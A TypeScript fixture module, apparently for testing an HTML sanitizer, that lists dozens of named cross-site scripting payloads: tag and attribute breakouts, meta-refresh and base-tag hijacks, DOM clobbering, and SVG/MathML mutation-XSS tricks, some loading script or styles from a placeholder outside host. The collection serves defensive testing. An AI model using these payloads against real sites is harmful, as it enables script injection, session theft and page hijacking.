import { FOREIGN, HIT, type Named } from './terms';

/** Ways out of where a text stands. */
export const WAYS_OUT: Named = [
  ...['script', 'style', 'textarea', 'title', 'noscript', 'template', 'xmp', 'iframe', 'noembed'],
  ...[
    'noframes',
    'svg',
    'math',
    'select',
    'table',
    'form',
    'button',
    'a',
    'p',
    'body',
    'html',
    'head',
  ],
].map(
  (tag) => [`out of ${tag}`, `</${tag}><img src=x onerror=${HIT}><script>${HIT}</script>`] as const,
);

export const UNBALANCED: Named = [
  ['out of many elements', `${'</div>'.repeat(50)}<script>${HIT}</script>`],
  ['out of a quoted attribute', `"><script>${HIT}</script>`],
  ['out of a single-quoted attribute', `'><script>${HIT}</script>`],
  ['out of a bare attribute', `><script>${HIT}</script>`],
  ['out of a comment', `--><script>${HIT}</script>`],
  ['out of a comment with a mark', `--!><script>${HIT}</script>`],
  ['out of CDATA', `]]><script>${HIT}</script>`],
  ['a comment that is not closed', '<!-- '],
  ['an attribute that is not closed', '<a href="'],
  ['a plaintext', `<plaintext><script>${HIT}</script>`],
  ['an xmp', '<xmp>'],
  ['a textarea that is not closed', `<textarea><script>${HIT}</script>`],
  ['a style that is not closed', '<style>*{display:none}'],
  ['a table that is not closed', '<table><tr><td>'],
  ['a select that is not closed', '<select><option>'],
  ['a form in a form', `<form id=a><form id=b></form><input autofocus onfocus=${HIT}></form>`],
  ['out of a JSON text', `","x":"</script><script>${HIT}</script>`],
  ['out of a script text', `';${HIT};'`],
  ['out of a double-quoted script text', `";${HIT};"`],
  ['out of a script line', `\u2028${HIT}\u2029`],
];

/** Elements that act on the whole document. */
export const DOCUMENT: Named = [
  ['a refresh to a script', `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`],
  ['a refresh to elsewhere', `<meta http-equiv=refresh content="0;url=https:${FOREIGN}/">`],
  ['a policy', `<meta http-equiv=content-security-policy content="default-src 'none'">`],
  ['a base', `<base href=https:${FOREIGN}/>`],
  ['a base for scripts', `<base href="javascript:/a/"><a href="//%0a${HIT}//">x</a>`],
  ['a style sheet from elsewhere', `<link rel=stylesheet href=${FOREIGN}/x.css>`],
  ['an import of HTML', `<link rel=import href=${FOREIGN}/x.html>`],
  ['a clobbered name', '<form name=body><input name=nodeName></form><a id=__NEXT_DATA__></a>'],
];

/** Drawings, formulas, and what changes its meaning each time it is parsed. */
export const FOREIGN_MARKUP: Named = [
  ['a script in a drawing', `<svg><script>${HIT}</script></svg>`],
  ['a script in a drawing by entities', `<svg><script>top&#46;hit&#61;1</script></svg>`],
  ['a script of a drawing from elsewhere', `<svg><script href=${FOREIGN}/x.js /></svg>`],
  [
    'a script of a drawing from a data address',
    `<svg><script xlink:href="data:text/javascript,${HIT}"/></svg>`,
  ],
  ['a drawing that animates', `<svg><animate onbegin=${HIT} attributeName=x dur=1s></svg>`],
  ['a drawing that sets', `<svg><set onbegin=${HIT} attributeName=x></svg>`],
  ['a drawing with a link', `<svg><a xlink:href="javascript:${HIT}"><text y=20>x</text></a></svg>`],
  [
    'a drawing with an animated link',
    `<svg><a><animate attributeName=href values=javascript:${HIT} /><text y=20>x</text></a></svg>`,
  ],
  [
    'a drawing that uses another',
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror=${HIT} /></svg>#x" /></svg>`,
  ],
  ['a picture in a drawing', `<svg><image href=x onerror=${HIT} /></svg>`],
  ['HTML in a drawing', `<svg><foreignObject><img src=x onerror=${HIT}></foreignObject></svg>`],
  [
    'a handler in a drawing',
    `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>${HIT}</handler></svg>`,
  ],
  ['a title in a drawing', `<svg><title><img src=x onerror=${HIT}></title></svg>`],
  ['a style in a drawing', `<svg><style><img src=x onerror=${HIT}></style></svg>`],
  ['a paragraph out of a drawing', `<svg></p><style><a id="</style><img src=x onerror=${HIT}>">`],
  ['a formula with a link', `<math><mtext href="javascript:${HIT}">x</mtext></math>`],
  [
    'a formula with an action',
    `<math><maction actiontype="statusline#x" xlink:href="javascript:${HIT}">x</maction></math>`,
  ],
  [
    'a formula with annotations',
    `<math><annotation-xml encoding=text/html><img src=x onerror=${HIT}></annotation-xml></math>`,
  ],
  [
    'a glyph in a table',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${HIT}&gt;">`,
  ],
  [
    'a glyph between forms',
    `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${HIT}>`,
  ],
  ['a style between formulas', `<math><mi><style><math></style><img src=x onerror=${HIT}>`],
  ['a malign mark', `<math><mtext><malignmark><style></math><img src=x onerror=${HIT}></style>`],
  ['a noscript with a style', `<noscript><style></noscript><img src=x onerror=${HIT}>`],
  ['a template with a style', `<svg><template><style></template><img src=x onerror=${HIT}>`],
  ['a select with a formula', `<select><math><style></select><img src=x onerror=${HIT}></style>`],
  ['links in tables', `<a href=x><table><a href="javascript:${HIT}">x</a></table></a>`],
  [
    'a description in a drawing',
    `<svg><desc><noembed></desc><img src=x onerror=${HIT}></noembed></svg>`,
  ],
  ['a comment in a drawing', `<svg><!--</svg><img src=x onerror=${HIT}>-->`],
  ['CDATA in a drawing', `<svg><![CDATA[><img src=x onerror=${HIT}>]]></svg>`],
  ['deep elements', `${'<div>'.repeat(600)}<style><!--</style><img src=x onerror=${HIT}>`],
];
